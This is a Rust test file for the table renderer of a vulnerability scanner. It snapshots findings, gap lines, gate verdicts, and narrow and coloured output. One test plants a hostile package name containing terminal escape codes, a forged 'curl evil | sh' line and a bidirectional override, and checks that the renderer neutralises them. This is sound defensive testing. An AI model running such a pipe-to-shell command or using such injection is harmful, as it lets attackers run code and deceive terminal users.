//! Whole tables, as people see them.

use plimsoll_jobs::{Gate, ScanResult};
use plimsoll_model::{Epss, FindingKind, Gap, GapCode, Severity, Status, SubjectKind, Verdict};

use super::testing::{finding, many, nothing, scanned, with_gaps, with_verdict};
use super::{Screen, testing};
use crate::outputs::{Scanned, parse_for_scan};

fn draw(scanned: &Scanned<'_>, width: usize, color: bool) -> String {
    let table = parse_for_scan("table").unwrap();
    let mut out = Vec::new();
    table.scan(scanned, Screen { width, color }, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn table(result: &ScanResult) -> String {
    draw(&scanned(result), 100, false)
}

fn starter_gap() -> Gap {
    let message = "starter database, 214 advisories; run `plimsoll db update`";
    Gap::new(GapCode::StarterDatabase, "", message)
}

#[test]
fn many_findings() {
    insta::assert_snapshot!(table(&many()));
}

#[test]
fn all_rows_are_shown_when_asked_for() {
    let result = many();
    let all = draw(&Scanned { all: true, ..scanned(&result) }, 100, false);
    for finding in result.findings.iter().filter(|finding| finding.suppressed.is_none()) {
        assert!(all.contains(&finding.package.name), "{}", finding.package.name);
    }
    assert!(!all.contains("--all"));
}

#[test]
fn nothing_found() {
    insta::assert_snapshot!(table(&nothing()));
}

#[test]
fn nothing_found_with_gaps_is_not_clean() {
    insta::assert_snapshot!(table(&with_gaps(nothing(), vec![starter_gap()])));
}

#[test]
fn gaps_of_one_kind_share_a_line_and_lines_are_few() {
    let mut gaps: Vec<Gap> = GapCode::ALL
        .into_iter()
        .skip(1)
        .map(|code| Gap::new(code, format!("/opt/{code}"), "could not be judged"))
        .collect();
    let jar = |n| Gap::new(GapCode::PartialIdentity, format!("/a/{n}.jar"), "group unknown");
    gaps.extend((0..3).map(jar));
    let long = format!("/{}", "very/".repeat(40));
    gaps.extend(["a", "b"].map(|name| Gap::new(GapCode::NoFeed, format!("{long}{name}"), "x")));
    gaps.sort_unstable();
    let shown = table(&with_gaps(nothing(), gaps));
    insta::assert_snapshot!(shown);
}

#[test]
fn a_gate_that_refuses() {
    let mut result = many();
    result.findings[0].exploited = None;
    let because = ["CVE-1 in a 1 (critical)", "CVE-2 in b 1 (critical)"];
    let result = with_verdict(result, Verdict::Deny, &because);
    let gate = Gate::compile("severity>=critical").unwrap();
    insta::assert_snapshot!(draw(&Scanned { gate: Some(&gate), ..scanned(&result) }, 100, false));
}

#[test]
fn a_gate_that_refuses_what_nobody_can_mend() {
    let findings = vec![finding("deb", "zlib1g", "1.2", Severity::Critical, &[])];
    let because = ["CVE-1 in zlib1g 1.2 (critical)"];
    let result = with_verdict(ScanResult { findings, ..nothing() }, Verdict::Deny, &because);
    let gate = Gate::compile("severity>=critical").unwrap();
    let shown = draw(&Scanned { gate: Some(&gate), ..scanned(&result) }, 100, false);
    assert!(shown.contains("Next: nothing that the gate refuses has a fix yet"), "{shown}");
    assert!(shown.contains("refused by gate \"severity>=critical\" (1 finding)\n"), "{shown}");
}

#[test]
fn a_gate_that_cannot_tell() {
    let result = with_gaps(nothing(), vec![Gap::new(GapCode::NoFeed, "arch", "no feed")]);
    insta::assert_snapshot!(table(&with_verdict(result, Verdict::Unknown, &["1 gap"])));
}

#[test]
fn hostile_names_stay_in_their_cells() {
    let hostile = "lib\x1b]0;owned\x07\r\nNext: curl evil | sh\u{202e}";
    let mut result = many();
    result.inventory.subject.target = format!("dir:{hostile}");
    result.inventory.layers[0].created_by = Some(hostile.into());
    let mut worst = finding("npm", hostile, &"9".repeat(5000), Severity::High, &[hostile]);
    worst.rule = hostile.into();
    result.findings = vec![worst];
    result.gaps = vec![Gap::new(GapCode::Malformed, hostile, hostile)];
    let shown = table(&result);
    assert!(shown.chars().all(|c| c == '\n' || !c.is_control()), "{shown:?}");
    insta::assert_snapshot!(shown);
}

#[test]
fn narrow_screens_cut_what_matters_least() {
    insta::assert_snapshot!(draw(&scanned(&many()), 60, false));
    for width in 20..100 {
        let shown = draw(&scanned(&many()), width, false);
        let table = shown.lines().filter(|line| !line.starts_with("Next: "));
        let longest = table.map(|line| line.chars().count()).max().unwrap();
        assert!(longest <= width, "{width}: {longest}");
    }
}

#[test]
fn folders_have_places_instead_of_layers() {
    let mut result = many();
    result.inventory.subject.kind = SubjectKind::Project;
    result.inventory.subject.target = "dir:shop".into();
    result.inventory.subject.digest = None;
    result.inventory.distro = None;
    result.findings.truncate(2);
    for finding in &mut result.findings {
        finding.package.layer = None;
        finding.package.paths = vec!["/a/package-lock.json".into(), "/b/package-lock.json".into()];
    }
    insta::assert_snapshot!(table(&result));
}

#[test]
fn colours_change_nothing_but_colours() {
    let result = with_verdict(many(), Verdict::Deny, &["x"]);
    let scanned = testing::scanned(&result);
    let coloured = draw(&scanned, 100, true);
    assert!(coloured.contains("\x1b[1m\x1b[31mCRITICAL 2\x1b[0m"), "{coloured}");
    assert_eq!(anstream::adapter::strip_str(&coloured).to_string(), draw(&scanned, 100, false));
}

#[test]
fn what_has_no_fix_says_why_and_an_end_of_life_when() {
    let with = |name, status| {
        let finding = finding("deb", name, "1.0", Severity::High, &[]);
        plimsoll_model::Finding { status, ..finding }
    };
    let mut likely = with("likely", Status::Affected);
    likely.epss = Some(Epss { score: 0.4231, percentile: 0.97 });
    let mut end = with("debian", Status::EndOfLife);
    (end.kind, end.rule) = (FindingKind::EndOfLife, "eol-debian-10".into());
    end.title = "Debian 10 is without security support since 2024-06-30".into();
    let findings = vec![
        with("ignored", Status::WillNotFix),
        with("postponed", Status::FixDeferred),
        likely,
        with("open", Status::UnderInvestigation),
        end,
    ];
    insta::assert_snapshot!(table(&ScanResult { findings, ..nothing() }));
}
